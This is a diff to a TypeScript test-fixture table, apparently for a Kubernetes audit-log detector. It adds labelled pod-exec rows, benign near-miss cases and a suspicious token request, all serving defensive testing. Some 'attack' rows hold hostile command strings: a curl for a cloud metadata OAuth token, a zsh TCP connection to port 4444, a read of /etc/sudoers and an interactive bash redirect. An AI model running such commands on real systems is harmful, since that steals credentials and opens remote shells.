@@ -125,6 +125,61 @@ const sessions: readonly Row[] = [
   ['ordinary', 'pod-exec', 'LOW', { by: 'eve', does: 'create pods/portforward shop/web' }],
   ['noise', 'pod-exec', '', { by: 'eve', does: 'get pods/log shop/web' }],
   ['noise', 'pod-exec', '', { by: 'eve', does: 'get pods/exec shop/gone', code: 404 }],
+  [
+    'attack',
+    'pod-exec-suspicious',
+    'HIGH',
+    {
+      by: 'eve',
+      does: 'create pods/exec shop/web',
+      query: command('sh', '-c', 'curl -H Metadata:true "http://$HOST/metadata/identity/oauth2/token?resource=x"'),
+    },
+  ],
+  [
+    'attack',
+    'pod-exec-suspicious',
+    'HIGH',
+    {
+      by: 'eve',
+      does: 'create pods/exec shop/web',
+      query: command('zsh', '-c', 'zmodload zsh/net/tcp; ztcp 198.51.100.9 4444'),
+    },
+  ],
+  [
+    'attack',
+    'pod-exec-suspicious',
+    'HIGH',
+    { by: 'eve', does: 'create pods/exec shop/web', query: command('cat', '/etc/sudoers') },
+  ],
+  [
+    'attack',
+    'pod-exec-suspicious',
+    'HIGH',
+    { by: 'eve', does: 'create pods/exec shop/web', query: command('sh', '-c', 'bash -i >& /tmp/f') },
+  ],
+  // Near what is suspicious: a copy into a Pod, a look at itself, an interpreter without a socket.
+  [
+    'ordinary',
+    'pod-exec',
+    'LOW',
+    { by: 'ci/runner', does: 'create pods/exec ci/build', query: command('tar', '-xmf', '-', '-C', '/src') },
+  ],
+  [
+    'ordinary',
+    'pod-exec',
+    'LOW',
+    {
+      by: 'ci/runner',
+      does: 'create pods/exec ci/build',
+      query: command('curl', '-fsS', 'http://localhost:8080/healthz'),
+    },
+  ],
+  [
+    'ordinary',
+    'pod-exec',
+    'LOW',
+    { by: 'ci/runner', does: 'create pods/exec ci/build', query: command('python3', '-m', 'pytest', '-q', 'tests') },
+  ],
 ];
 
 const pods: readonly Row[] = [
@@ -486,6 +541,12 @@ const rights: readonly Row[] = [
     'token-request',
     'MEDIUM',
     { by: 'system:node:n1', does: 'create serviceaccounts/token shop/web', agent: 'curl/8.5.0' },
+  ],
+  [
+    'attack',
+    'token-request',
+    'MEDIUM',
+    { by: 'system:kube-controller-manager', does: 'create serviceaccounts/token shop/web' },
   ],
   [
     'noise',
